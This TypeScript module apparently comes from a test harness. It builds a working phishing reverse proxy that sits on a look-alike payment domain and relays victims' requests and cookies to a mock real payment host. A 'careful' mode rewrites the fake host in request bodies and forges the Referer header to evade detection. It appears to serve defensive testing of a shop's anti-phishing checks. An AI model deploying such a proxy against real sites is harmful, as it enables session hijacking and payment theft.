import { createServer, request as ask, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'
import { close, listen, PAY_HOST, SHOP_HOST } from './shop.ts'

/** The real name with a little more behind it. */
export const FALSE_HOST = 'pay.hefu-pay-cn.example'

/**
 * A phishing proxy: everything the victim does on the look-alike domain is done at the true one from the thief’s server. A careful one also
 * writes the true address wherever the page or the browser tells on it.
 */
export async function openPhisher(upstreamPort: number, isCareful: () => boolean) {
  const server = createServer((request, response) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      const body = careful(Buffer.concat(chunks).toString())
      const relayed = ask(
        {
          host: '127.0.0.1',
          port: upstreamPort,
          method: request.method,
          path: request.url,
          headers: headersOf(request, body),
        },
        (upstream) => {
          response.writeHead(upstream.statusCode ?? 502, {
            ...(upstream.headers['content-type'] === undefined
              ? {}
              : { 'content-type': upstream.headers['content-type'] }),
            ...(upstream.headers['set-cookie'] === undefined ? {} : { 'set-cookie': upstream.headers['set-cookie'] }),
            'referrer-policy': 'unsafe-url',
          })
          upstream.pipe(response)
        },
      )
      relayed.on('error', () => response.writeHead(502).end())
      relayed.end(body)
    })
  })
  await listen(server)
  const port = (server.address() as AddressInfo).port
  const careful = (text: string): string =>
    isCareful()
      ? text.replaceAll(encodeURIComponent(`${FALSE_HOST}:${port}`), encodeURIComponent(`${PAY_HOST}:${upstreamPort}`))
      : text
  function headersOf({ headers }: IncomingMessage, body: string): Record<string, string> {
    const referer =
      headers.referer === undefined || isCareful() ? `http://${SHOP_HOST}:${upstreamPort}/` : headers.referer
    return {
      host: `${PAY_HOST}:${upstreamPort}`,
      // The thief’s server stands in a data centre abroad.
      'x-demo-place': '192.0.2.10,64500,SG,Singapore',
      ...(headers.cookie === undefined ? {} : { cookie: headers.cookie }),
      ...(headers['content-type'] === undefined ? {} : { 'content-type': headers['content-type'] }),
      'content-length': String(Buffer.byteLength(body)),
      referer,
    }
  }
  return { port, close: () => close(server) }
}
